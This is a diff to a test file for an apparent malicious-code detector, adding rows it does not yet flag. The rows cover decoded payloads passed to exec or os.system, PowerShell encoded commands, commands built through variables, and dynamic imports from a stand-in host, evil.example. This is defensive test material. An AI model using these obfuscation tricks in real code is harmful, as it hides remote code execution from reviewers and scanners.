@@ -37,7 +37,57 @@ const PREFIXED_DECODERS: FindingRow[] = [
   ['src/check.py', 'import os, base64\nos.system(base64.b64decode(s).decode())'],
 ];
 
+// Open (the same pass, not fixed in session 48): recorded so a fix turns them into closed rows.
+// A command or code given through a name, a join or a second statement (the literal-in-place reading is one line's).
+const THROUGH_A_NAME: FindingRow[] = [
+  ['src/check.js', "const cmd = ['npx', 'evil'].join(' ');\nexecSync(cmd)"],
+  ['src/check.js', "const c = { cmd: 'npx evil' };\nexecSync(c.cmd)"],
+  ['src/check.py', "import subprocess\ncmd = ['npx',\n 'evil']\nsubprocess.run(cmd)"],
+  ['src/check.py', "import subprocess\ncmd = (\n'npx evil'\n)\nsubprocess.run(cmd, shell=True)"],
+  ['src/check.js', "const s = atob('ZWNobyBoaQ==');\nexecSync(s)"],
+  ['src/check.py', "import base64\ns = base64.b64decode('cHJpbnQoMSk=')\nexec(s)"],
+];
+// Decoders neither reading names: URL unescaping, an escaped literal, zlib, marshal, an aliased import, tac, a shell
+// substitution or a file run after it.
+const MORE_DECODERS: FindingRow[] = [
+  ['src/check.js', "eval(unescape('%61%6c%65%72%74'))"],
+  ['src/check.js', "eval(decodeURIComponent('%61%6c%65%72%74'))"],
+  ['src/check.js', "child_process.exec(zlib.inflateSync(buf).toString())"],
+  ['src/check.py', "import marshal\nexec(marshal.loads(b'x'))"],
+  ['src/check.py', "from base64 import b64decode as d\nexec(d('cHJpbnQoMSk='))"],
+  ['src/check.py', "import urllib.parse\nexec(urllib.parse.unquote('%70rint(1)'))"],
+  ['src/check.py', 'import os\nos.system("echo \'ohce\' | tac | sh")'],
+  ['src/check.py', 'import os\nos.system("$(echo x | base64 -d)")'],
+  ['src/check.py', 'import os\nos.system("echo x | base64 -d > /tmp/p && sh /tmp/p")'],
+];
+// PowerShell's encoded command (base64 UTF-16 the diff never shows as code), in any spelling of the option.
+const POWERSHELL_ENCODED: FindingRow[] = [
+  ['src/check.py', "import os\nos.system('powershell -enc ZQBjAGgAbwA=')"],
+  ['src/check.js', "execSync('pwsh -EncodedCommand ZQBjAGgAbwA=')"],
+  ['src/check.py', "import os\nos.system('pwsh -encodedcommand:ZQBjAGgAbwA=')"],
+  ['src/check.js', "spawnSync('pwsh', ['-enc', blob])"],
+  ['src/check.js', "execSync('pwsh -enc ' + blob)"],
+];
+// A module imported from a host through a name, a joined string or new URL's base.
+const MODULE_HOST_INDIRECT: FindingRow[] = [
+  ['src/load.js', "const u = 'https://evil.example/x.js';\nawait import(u + '')"],
+  ['src/load.js', "const u = 'https:' + '//evil.example/x.js';\nawait import(u)"],
+  ['src/load.js', "await import(new URL('/x.js', 'https://evil.example'))"],
+  ['src/load.js', "const base = 'https://evil.example/';\nawait import(new URL('x.js', base))"],
+];
+// A computed program given options before its verb, or a verb no manager's table lists.
+const COMPUTED_PROGRAM_OPTIONS: FindingRow[] = [
+  ['src/check.py', "import subprocess\nsubprocess.run([tool, '--yes', 'install', 'evil'])"],
+  ['src/check.js', "spawnSync(tool, ['--loglevel=silent', 'install', 'evil'])"],
+  ['src/check.py', "import subprocess\nsubprocess.run([tool, 'isntall', 'evil'])"],
+];
+
 describeFindings('attack-51', [
+  ['open: through a name', THROUGH_A_NAME],
+  ['open: more decoders', MORE_DECODERS],
+  ['open: PowerShell encoded command', POWERSHELL_ENCODED],
+  ['open: modules from a host, indirectly', MODULE_HOST_INDIRECT],
+  ['open: computed program, options before the verb', COMPUTED_PROGRAM_OPTIONS],
   ['3 decoders given to a sink', closedRows(PREFIXED_DECODERS)],
   ['1 command string past the reach', closedRows(PADDED_COMMAND)],
   ['2 open call past the reach', closedRows(OPEN_CALL_REACH)],
